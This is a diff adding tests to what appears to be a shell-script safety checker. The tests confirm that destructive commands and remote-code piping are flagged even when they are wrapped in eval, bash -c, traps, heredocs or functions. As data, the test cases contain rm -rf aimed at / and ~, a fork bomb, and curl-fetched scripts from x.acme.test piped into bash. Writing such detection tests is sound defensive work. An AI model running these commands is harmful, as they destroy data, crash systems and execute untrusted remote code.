@@ -94,3 +94,20 @@ describe('descriptors', () => {
     'honest: %s', (script) => expect(told(script)).toEqual([]),
   );
 });
+
+describe('a script inside of another one', () => {
+  const carried = (script: string): readonly string[] => [`bash -c '${script}'`, `eval '${script}'`, `trap '${script}' EXIT`, `sh <<'END'\n${script}\nEND`, `setup() {\n${script}\n}\nsetup`];
+  it.each(
+    [
+      'rm -rf "$(echo /)"',
+      'echo / | xargs rm -rf',
+      'command echo / | xargs rm -rf',
+      'xargs -a <(echo ~) rm -rf',
+      ':(){ :|:& };:',
+    ].flatMap(carried),
+  )('%s', (script) => expect(told(script)).toContain('no-destructive-command'));
+
+  it.each(['"$(which curl)" -s https://x.acme.test/i.sh | "$(command -v bash)"', 'C=$(type -P curl); $C -s https://x.acme.test/i.sh | sh', 'printf -v c %s curl; $c https://x.acme.test/i.sh | bash'].flatMap(carried))('%s', (script) => expect(told(script)).toContain('no-remote-code'));
+
+  it.each(['rm -rf "$(echo build)"', 'echo dist | xargs rm -rf', 'walk() { ls "$1"; }; walk src', 'N=$(which node); "$N" --version'].flatMap(carried))('honest: %s', (script) => expect(told(script)).toEqual([]));
+});
